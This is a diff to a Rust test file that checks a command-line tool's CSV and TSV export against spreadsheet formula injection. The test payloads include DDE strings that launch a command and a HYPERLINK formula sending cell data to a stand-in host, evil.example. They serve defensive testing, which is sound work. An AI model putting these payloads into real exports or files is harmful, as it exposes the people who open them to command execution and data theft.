@@ -3,7 +3,7 @@
 
 use crate::judge;
 use crate::positions;
-use crate::program::{run, surroundings};
+use crate::program::{COMMANDS, run, surroundings};
 use crate::rows::{ask, is_seen_alike, page, saying};
 use serde_json::Value;
 
@@ -13,10 +13,72 @@ fn is_no_form(form: &str) {
     assert_eq!((run.status, &*run.stdout), (2, &b""[..]), "now {form} needs a test of its own");
 }
 
+/// Every cell of every command: none is a formula, and none but numbers may begin like one.
 #[test]
-fn t15_there_are_no_spreadsheets_yet() {
-    is_no_form("csv");
-    is_no_form("tsv");
+fn t15_no_cell_is_a_formula() {
+    for formula in [
+        "=cmd|' /C calc'!A0",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        "\0=1+1",
+        "   =1+1",
+        "\u{a0}=1+1",
+        "\u{ff1d}1+1",
+        "\u{ff0b}1 \u{ff0d}1",
+        "=HYPERLINK(\"http://evil.example/?\"&A1)",
+    ] {
+        let ticket = saying(formula);
+        for command in COMMANDS.into_iter().filter(|command| command[0] != "show") {
+            let text = page(&[command, &["-o", "csv"]].concat(), &ticket);
+            let mut reader = csv::Reader::from_reader(text.as_bytes());
+            let mut cells = 0;
+            for row in reader.records() {
+                for cell in row.unwrap().iter().filter(|cell| cell.parse::<f64>().is_err()) {
+                    let sign =
+                        cell.trim_start_matches(|c: char| c.is_whitespace() || c.is_control());
+                    let is_led = cell.starts_with(['\t', '\r', '\n', '\0']);
+                    assert!(
+                        !is_led && !sign.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']),
+                        "{command:?}: {cell}"
+                    );
+                    cells += usize::from(cell.starts_with('\''));
+                }
+            }
+            let is_told = ["transcript", "participants", "timeline"].contains(&command[0]);
+            assert!(cells > 0 || !is_told, "{command:?}: {formula:?} is nowhere");
+        }
+    }
+}
+
+/// What is wanted raw comes as it is.
+#[test]
+fn t15_raw_rows_are_exact() {
+    let text = "=1+1 \u{1b}[2J \t\r\n\\ \"x\",;\0\u{202e}";
+    for form in ["csv", "tsv"] {
+        let ticket = saying(text);
+        let arguments = ["transcript", "--raw", "--fields", "text", "-o", form];
+        let written = page(&arguments, &ticket);
+        let expected = match form {
+            "csv" => format!("\"{}\"", text.replace('"', "\"\"")),
+            _ => text
+                .replace('\\', "\\\\")
+                .replace('\t', "\\t")
+                .replace('\r', "\\r")
+                .replace('\n', "\\n"),
+        };
+        assert!(written.contains(&expected), "{written:?}");
+        let shown = ask(&arguments, true, &ticket).stdout;
+        assert_eq!(judge::faults(&untabbed(&shown), judge::DATA), Vec::<String>::new());
+    }
+}
+
+/// Tabs set cells apart, and move nothing on a screen that is not theirs.
+fn untabbed(bytes: &[u8]) -> Vec<u8> {
+    bytes.iter().map(|byte| if *byte == b'\t' { b' ' } else { *byte }).collect()
 }
 
 #[test]
